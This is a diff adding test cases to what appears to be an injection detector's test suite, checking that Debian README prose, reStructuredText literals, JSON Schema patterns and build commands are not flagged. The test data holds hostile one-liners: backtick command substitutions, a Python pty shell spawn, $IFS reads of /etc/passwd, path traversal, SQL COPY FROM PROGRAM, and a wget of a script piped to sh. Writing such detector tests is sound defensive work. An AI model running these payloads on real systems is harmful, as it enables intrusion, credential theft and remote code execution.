@@ -1817,3 +1817,34 @@ t.test('twenty-sixth round, review: a COPY of listed columns is a list of names'
   t.ok(q("'||;COPY users(names) FROM '\\\\xpto.example.com\\';||'").includes('sqli'), 'one column')
   t.ok(q("x'; copy users (name, email) from program 'id'").includes('sqli'), 'two, after a blank')
 })
+
+t.test('twenty-seventh round (documents on this machine): quotes GNU’s way, a product and its version after any separator, $IFS named in prose, a system file ending a line of a sentence', async (t) => {
+  const doc = (line: string) => `README for Debian\n=================\n\nThis package is built from the upstream sources with a few changes.\n${line}\nSee the changelog for the details of each of them.\n`
+  for (const line of ["# with `swapon -a'.\n# The `noauto' option indicates that the file system should not be mounted", "they should use `perl' (which depends on `perl-modules-5.xx') instead.", "much information about program resource use; `time' reports"]) t.same(json({ text: doc(line) }), [], line)
+  t.ok(q("`id`").includes('rce'), 'a substitution closes on a backtick')
+  t.ok(q("'`id`'").includes('rce'), 'and inside quotes')
+  t.ok(q('x; `whoami`').includes('rce'), 'and after a separator')
+  t.ok(q("a`id`b").includes('rce'), 'and glued to words')
+  t.same(json({ text: doc('Version 6 of the ABI is common to GCC 3.4 and later; GCC 4.3 provides') }), [], 'a compiler and its version after a semicolon of prose')
+  t.same(json({ text: `\n  Python 3.11 for Debian\n  ---------------------\n\n${doc('The interpreter is installed as python3.11.')}` }), [], 'a document opening on a blank line, then a product and its version')
+  t.ok(q('x; python3 -c "import os; os.system(\'id\')"').includes('rce'), 'an interpreter run after a separator still is')
+  t.ok(q('\npython -c "import pty;pty.spawn(\'/bin/sh\')"').includes('rce'), 'and after a line break')
+  t.ok(q(';gcc -o /tmp/x /tmp/x.c').includes('rce'), 'a compiler given options still is')
+  t.same(json({ text: doc('way "ssh" did, concatenating them into a single string and letting the\nget their argument split at $IFS whitespaces by the shell, and got') }), [], '$IFS named between blanks')
+  for (const v of ['cat$IFS/etc/passwd', ';ls$IFS-la', 'cat${IFS}/etc/passwd', ';cat$IFS$9/etc/passwd']) t.ok(q(v).includes('rce'), v)
+  t.same(json({ text: doc('upgraded my system to the testing distribution and now my /etc/issue\nsays "trixie/sid". Should it not say something else?') }), [], 'a system file ending a line, its sentence going on')
+  t.ok(json({ text: doc('upgraded my system and read ../../../../etc/issue\nsays the log') }).includes('path_traversal'), 'climbing to it still counts')
+})
+
+t.test("twenty-seventh round (documents on this machine): reStructuredText's literals, a JSON Schema's patterns, a build's make", async (t) => {
+  t.same(json({ description: 'or as a ``dict``-like structure with a single key ``find``' }), [], "reStructuredText's double backticks open no substitution")
+  t.ok(q(';``id``').includes('rce'), 'an empty substitution before a command after a separator still is one')
+  const schema = { $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', additionalProperties: false, properties: { DataFrequency: { type: 'string', pattern: '^Y|M|W|D|H|30min|15min|10min|5min|1min$' }, Url: { type: 'string', pattern: '^(?![^:\\\\]*/action/|(?i).*<script>.*</script>.*)[^:\\\\]+$' } } }
+  t.same(json(schema), [], "a schema's patterns are regular expressions for its validator")
+  t.ok(json({ ...schema, description: '; cat /etc/passwd' }).includes('rce'), "the schema's other fields are still read")
+  t.ok(json({ pattern: '; cat /etc/passwd', type: 'object', properties: {} }).includes('rce'), 'a `pattern` field outside a schema still is read')
+  const readme = (line: string) => `Nettle\n======\n\nNettle is a cryptographic library that is designed to fit easily in more or less any context.\n\nTo build it, run\n\n  ${line}\n\n(see the INSTALL file for details).\n`
+  t.same(json({ text: readme('./configure && make && make check && make install') }), [], "a build's instructions")
+  t.same(json({ text: readme('make distclean; ./configure; make') }), [], 'and with semicolons')
+  t.ok(json({ text: readme('./configure && make && wget http://203.0.113.7/x.sh -O- | sh') }).includes('rce'), 'a download piped to a shell after them still is')
+})
